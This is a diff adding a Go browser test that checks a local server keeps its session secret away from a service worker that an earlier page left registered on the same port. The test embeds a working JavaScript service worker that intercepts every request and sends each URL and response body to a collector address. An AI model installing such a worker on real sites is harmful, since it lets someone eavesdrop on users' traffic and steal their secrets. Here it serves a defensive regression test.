@@ -173,3 +173,53 @@ func TestBrowserIsOver(t *testing.T) {
 	b.goTo("/needs")
 	b.says("main", "run tt serve")
 }
+
+// serviceWorker is a script that a page leaves in a browser. Everything that the browser asks its port for goes through it, and it tells where
+// that is.
+const serviceWorker = `
+self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
+const tell = (text) => fetch("COLLECTOR", { method: "POST", mode: "no-cors", body: text });
+self.addEventListener("fetch", (e) => {
+	e.respondWith(tell(e.request.url).then(() => fetch(e.request)).then((r) => {
+		r.clone().text().then(tell);
+		return r;
+	}));
+});`
+
+// TestBrowserServiceWorker: what a page has left in the browser that had the port before sees no session. The address has to be opened twice.
+func TestBrowserServiceWorker(t *testing.T) {
+	realharness.Chromium(t)
+	d := newDesk(scene.New(t), nil)
+	b := d.open()
+	collector := newEavesdropper(t, func() string { return "" })
+	before := newEavesdropper(t, func() string {
+		return `<script>navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "left" })</script>`
+	})
+	before.script = strings.ReplaceAll(serviceWorker, "COLLECTOR", collector.URL)
+	b.others = []string{before.URL, collector.URL}
+	b.run(chromedp.Navigate(before.URL))
+	b.until(`document.title === "left"`)
+	d.listen = strings.TrimPrefix(before.URL, "http://")
+	before.Close()
+
+	d.serve(nil)
+	address := d.server.Address(addressOf(d.base), "")
+	b.run(chromedp.Navigate(address))
+	b.says("main", "open it again")
+	b.run(chromedp.Navigate(address))
+	b.until(`document.body.dataset.linked === "yes"`)
+	if eval[bool](b, `!!navigator.serviceWorker.controller`) {
+		t.Error("the pages go through a service worker")
+	}
+	secret := strings.Split(eval[string](b, `location.pathname`), "/")[1]
+	heard := collector.requests()
+	if len(heard) == 0 {
+		t.Error("the service worker has seen nothing")
+	}
+	for _, request := range heard {
+		if strings.Contains(request, secret) {
+			t.Errorf("the service worker has seen\n%s", request)
+		}
+	}
+}
